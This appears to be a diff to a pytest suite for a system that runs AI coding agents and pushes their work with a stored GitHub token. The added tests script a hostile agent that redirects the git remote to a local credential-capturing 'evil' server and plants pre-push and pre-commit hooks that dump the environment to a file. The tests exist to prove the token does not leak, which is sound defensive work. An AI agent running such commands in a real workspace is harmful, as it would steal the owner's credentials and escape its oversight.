@@ -12,11 +12,15 @@ file, log, API answer or process environment once git is done with it.
 
 from __future__ import annotations
 
+import base64
+import http.server
 import json
 import re
 import subprocess
 import sys
+import threading
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -81,6 +85,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
             site.ok("login", made.stdout.strip())
             site.ok("agent", "add", "scripted", "--", sys.executable, str(SCRIPTED_AGENT))
             site.ok("agent", "configure", "scripted", "--policy", "allow-edits")
+            site.ok("credentials", "set", "github", "--name", "gh", input=token + "\n")
             yield site
 
 
@@ -98,7 +103,6 @@ def test_a_private_repository_needs_the_token(site: Site) -> None:
 
 
 def test_from_private_clone_to_pull_request(site: Site) -> None:
-    site.ok("credentials", "set", "github", "--name", "gh", input=site.token + "\n")
     site.ok("project", "add", "widgets", "--github", REPO, "--credential", "gh")
     project = site.session_site.api.get("/projects/widgets")
     assert project["github_repo"] == REPO
@@ -199,3 +203,76 @@ def _assert_nowhere(site: Site, token: str) -> None:
             continue
     for route in ("/projects", "/credentials", "/activity", "/workspaces"):
         assert token not in json.dumps(site.session_site.api.get(route)), route
+
+
+def test_a_rewritten_remote_gets_no_token(site: Site) -> None:
+    """The workspace owns its `.git`: an agent that points GitHub's URL at its own server
+    (`url.*.insteadOf`) gets the push, but not the token."""
+    site.ok("project", "add", "hostile", "--github", REPO, "--credential", "gh")
+    site.ok("workspace", "create", "hostile", "--name", "wh", "--node", "n1")
+    session_id = site.ok("session", "start", "wh", "--agent", "scripted").strip()
+    with _listener() as (evil_url, heard):
+        for command in (
+            f"git config url.{evil_url}/.insteadOf {site.github.web_url}/",
+            "echo change > hostile.txt",
+        ):
+            site.ok("session", "prompt", session_id, f"terminal cmd={command}")
+        failed = site.run("session", "pr", session_id)
+        assert failed.returncode == 1
+        assert "git push failed" in failed.stderr, failed.stderr
+        assert site.token not in failed.stderr
+        assert heard, "the rewritten remote was never asked: the test proves nothing"
+        assert all(site.token not in request for request in heard), heard
+
+
+def test_a_planted_hook_does_not_run_beside_the_token(site: Site, tmp_path: Path) -> None:
+    """A pre-push hook would run with the push's environment, token and all: Corral's push
+    runs none, and the push still succeeds."""
+    site.ok("project", "add", "hooked", "--github", REPO, "--credential", "gh")
+    site.ok("workspace", "create", "hooked", "--name", "wk", "--node", "n1")
+    session_id = site.ok("session", "start", "wk", "--agent", "scripted").strip()
+    stolen = tmp_path / "hook-saw"
+    hook = f"#!/bin/sh\\nenv > {stolen}\\n"
+    for command in (
+        f"printf '{hook}' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push",
+        f"printf '{hook}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        "echo change > hooked.txt",
+    ):
+        site.ok("session", "prompt", session_id, f"terminal cmd={command}")
+    pushed = json.loads(site.ok("session", "pr", session_id, "--json"))
+    assert site.github.repo(REPO).read_file(pushed["branch"], "hooked.txt") == "change\n"
+    assert not stolen.exists(), "a workspace's hook ran beside the token"
+
+
+@contextmanager
+def _listener() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on 127.0.0.1 that asks for basic auth (as a forge does) and keeps every
+    request's head, to see whether a credential is sent to it."""
+    heard: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            authorization = self.headers.get("Authorization", "")
+            scheme, _, value = authorization.partition(" ")
+            if scheme.lower() == "basic":  # what git sends: user:password in base64
+                value = base64.b64decode(value + "==").decode(errors="replace")
+            heard.append(f"{self.requestline}\n{self.headers}\n{value}")
+            self.send_response(401)
+            self.send_header("WWW-Authenticate", 'Basic realm="evil"')
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *_: object) -> None:
+            return
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", heard
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(timeout=10)
